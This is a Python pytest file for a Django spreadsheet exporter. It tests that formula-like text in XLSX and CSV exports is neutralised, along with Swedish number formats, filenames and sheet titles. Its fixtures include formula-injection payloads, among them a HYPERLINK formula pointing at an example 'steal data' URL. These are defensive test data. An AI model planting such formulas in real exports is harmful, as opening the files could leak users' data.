"""The exporter: real workbooks and CSV files, read back the way a user's program would."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone
from django.utils.translation import gettext_lazy as _

from redthread.core.exporting import (
    CSV_CONTENT_TYPE,
    XLSX_CONTENT_TYPE,
    ExportFile,
    export_response,
    export_table,
    is_export_format,
    neutralise,
    sheet_title,
)
from redthread.core.importing import parse_number, read_table

HYPERLINK = '=HYPERLINK("https://example.com/stjäl?data=1";"Klicka här")'
HEADERS = ["Org.nr", "Namn", "Omsättning", "Anställda", "Registrerad", "Uppdaterad", "Aktiv"]
ROWS: list[list[object]] = [
    [
        "556036-0793",
        "Testverkstaden AB",
        Decimal("12345.50"),
        12,
        date(2020, 1, 2),
        # 11:30 UTC is 12:30 in Sweden in winter.
        datetime(2026, 1, 15, 11, 30, tzinfo=UTC),
        True,
    ],
    [
        "-5",
        HYPERLINK,
        -3,
        1.5,
        None,
        datetime(2026, 7, 1, 22, 15, tzinfo=UTC),  # summer time: 00:15 the next day
        False,
    ],
    ["+46 70 123 45 67", "@SUM(A1:A9)", 0, None, None, None, None],
    ["\tTab", "\rRetur", "Ok: = inuti", None, None, None, None],
]


def export(fmt: str, rows: list[list[object]] | None = None) -> ExportFile:
    return export_table(
        headers=HEADERS,
        rows=iter(ROWS if rows is None else rows),  # consumed once, like a queryset iterator
        # The tests pass the format as a plain str, also an unknown one.
        fmt=fmt,  # type: ignore[arg-type]
        title="Företag i Västra Götaland",
    )


def decoded_csv(export_file: ExportFile, delimiter: str) -> list[list[str]]:
    assert export_file.content.startswith(codecs.BOM_UTF8)
    text = export_file.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+46 70", "'+46 70"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\x01=1+1", "'=1+1"),  # a hidden control character cannot shield a formula
        ("Volvo AB", "Volvo AB"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(text, safe):
    assert neutralise(text) == safe


def test_xlsx_keeps_types_and_neutralises_text():
    export_file = export("xlsx")
    assert export_file.content_type == XLSX_CONTENT_TYPE
    workbook = openpyxl.load_workbook(io.BytesIO(export_file.content))
    sheet = workbook.active
    assert sheet.title == "Företag i Västra Götaland"
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert sheet.auto_filter.ref == "A1:G5"

    first = [cell.value for cell in sheet[2]]
    assert first[:4] == ["556036-0793", "Testverkstaden AB", 12345.5, 12]
    assert sheet["C2"].data_type == "n"
    assert sheet["D2"].data_type == "n"
    assert first[4] == datetime(2020, 1, 2)  # noqa: DTZ001 - Excel has no time zones
    assert sheet["E2"].is_date
    assert first[5] == datetime(2026, 1, 15, 12, 30)  # noqa: DTZ001
    assert sheet["F2"].number_format == "yyyy-mm-dd hh:mm"
    assert first[6] is True

    second = [cell.value for cell in sheet[3]]
    assert second[:4] == ["'-5", "'" + HYPERLINK, -3, 1.5]  # numbers are not touched
    assert sheet["B3"].data_type == "s"  # text, not a formula
    assert second[5] == datetime(2026, 7, 2, 0, 15)  # noqa: DTZ001
    assert [cell.value for cell in sheet[4]][:3] == ["'+46 70 123 45 67", "'@SUM(A1:A9)", 0]
    # XML reads a carriage return as a line feed; the apostrophe stays in front either way.
    assert [cell.value for cell in sheet[5]][:3] == ["'\tTab", "'\nRetur", "Ok: = inuti"]


def test_csv_semicolon_is_for_swedish_excel():
    export_file = export("csv-semicolon")
    assert export_file.content_type == CSV_CONTENT_TYPE
    assert export_file.content.count(b"\r\n") == 5
    rows = decoded_csv(export_file, ";")
    assert rows == [
        HEADERS,
        [
            "556036-0793",
            "Testverkstaden AB",
            "12345,5",
            "12",
            "2020-01-02",
            "2026-01-15 12:30",
            "SANT",
        ],
        ["'-5", "'" + HYPERLINK, "-3", "1,5", "", "2026-07-02 00:15", "FALSKT"],
        ["'+46 70 123 45 67", "'@SUM(A1:A9)", "0", "", "", "", ""],
        ["'\tTab", "'\rRetur", "Ok: = inuti", "", "", "", ""],
    ]


def test_csv_uses_comma_and_decimal_point():
    rows = decoded_csv(export("csv"), ",")
    assert rows[1][2] == "12345.5"
    assert rows[2][:4] == ["'-5", "'" + HYPERLINK, "-3", "1.5"]


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "csv-semicolon"])
def test_an_export_reads_back_with_the_same_values(fmt):
    export_file = export(fmt)
    table = read_table(export_file.content, export_file.filename)
    assert table.headers == HEADERS
    assert [row.number for row in table.rows] == [2, 3, 4, 5]
    first, second = table.rows[0].values, table.rows[1].values
    assert first[:2] == ["556036-0793", "Testverkstaden AB"]
    assert parse_number(first[2]) == Decimal("12345.5")
    assert first[3:] == ["12", "2020-01-02", "2026-01-15 12:30", "SANT"]
    assert second[1] == "'" + HYPERLINK  # the neutralised text, not a formula's result
    assert [parse_number(value) for value in second[2:4]] == [-3, Decimal("1.5")]
    # read_table makes every line end a line feed, as XML does in an xlsx file.
    assert table.rows[3].values[:3] == ["'\tTab", "'\nRetur", "Ok: = inuti"]


def test_the_filename_is_the_title_and_today_in_sweden():
    today = timezone.localdate().isoformat()
    assert export("xlsx").filename == f"foretag-i-vastra-gotaland-{today}.xlsx"
    assert export("csv").filename == f"foretag-i-vastra-gotaland-{today}.csv"
    assert export("csv-semicolon").filename == f"foretag-i-vastra-gotaland-{today}.csv"
    nameless = export_table(headers=["A"], rows=[], fmt="csv", title="???")
    assert nameless.filename == f"export-{today}.csv"
    lazy = export_table(headers=["A"], rows=[], fmt="xlsx", title=_("Rapport: [år]"))
    assert lazy.filename == f"rapport-ar-{today}.xlsx"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Företag", "Företag"),
        ("Företag [2026]: a/b*c?d\\e", "Företag 2026 a b c d e"),
        ("Omsättning per kommun och bransch i Sverige", "Omsättning per kommun och brans"),
        ("'Citerad'", "Citerad"),
        ("[]:*?/\\", "Export"),
    ],
)
def test_sheet_title(title, expected):
    assert sheet_title(title) == expected
    assert len(sheet_title(title)) <= 31


def test_an_empty_list_and_lazy_headers():
    export_file = export_table(
        headers=[_("Namn"), _("Kommun")], rows=[], fmt="xlsx", title="Tom [lista]"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(export_file.content)).active
    assert sheet.title == "Tom lista"
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [["Namn", "Kommun"]]
    assert read_table(export_file.content, export_file.filename).rows == []


def test_values_a_spreadsheet_cannot_hold():
    rows: list[list[object]] = [[float("nan"), Decimal("Infinity"), "a\x00b\x1fc", _("Ja")]]
    sheet = openpyxl.load_workbook(io.BytesIO(export("xlsx", rows).content)).active
    assert [cell.value for cell in sheet[2]][:4] == [None, None, "abc", "Ja"]
    assert decoded_csv(export("csv", rows), ",")[1][:4] == ["", "", "abc", "Ja"]


def test_is_export_format():
    assert [is_export_format(v) for v in ("xlsx", "csv", "csv-semicolon")] == [True] * 3
    assert not is_export_format("pdf")
    assert not is_export_format(None)


def test_an_unknown_format_is_a_programming_error():
    with pytest.raises(ValueError, match="Unknown export format"):
        export("pdf")


def test_export_response_downloads_the_file():
    export_file = export("csv-semicolon")
    response = export_response(export_file)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{export_file.filename}"'
    assert response["Cache-Control"] == "no-store"
    assert response.content == export_file.content


def test_export_workbook_writes_several_sheets_with_titles_formats_and_notes():
    import io as _io

    from openpyxl import load_workbook

    from redthread.core import formats
    from redthread.core.exporting import Sheet, export_workbook

    summary = Sheet(
        name="Sammanfattning", headers=["Uppgift", "Värde"], title="=Rapport", subtitle="2025"
    )
    summary.append(["Företag", 12], [None, formats.XLSX_INTEGER])
    summary.append(["Totalt", 1234.5], [None, formats.xlsx_decimals(2)], bold=True)
    summary.text("En lång anmärkning under tabellen som inte ska göra kolumnen bredare än den är")
    plain = Sheet(name="Rader: a/b", headers=["A"])
    plain.append(["=1+1"])
    export = export_workbook(sheets=[summary, plain], title="Rapport")
    assert export.filename.startswith("rapport-")
    assert export.filename.endswith(".xlsx")
    book = load_workbook(_io.BytesIO(export.content))
    assert book.sheetnames == ["Sammanfattning", "Rader a b"]
    first = book["Sammanfattning"]
    assert first["A1"].value == "'=Rapport"  # neutralised like every text cell
    assert first["A1"].font.bold
    assert [cell.value for cell in first[4]] == ["Uppgift", "Värde"]
    assert first["B5"].value == 12
    assert first["B5"].number_format == "#,##0"
    assert first["B6"].number_format == "#,##0.00"
    assert first["A6"].font.bold
    assert first.freeze_panes == "A5"
    assert first.column_dimensions["A"].width < 60
    second = book["Rader a b"]
    assert second["A1"].value == "A"  # no title: the header is the first row
    assert second["A2"].value == "'=1+1"
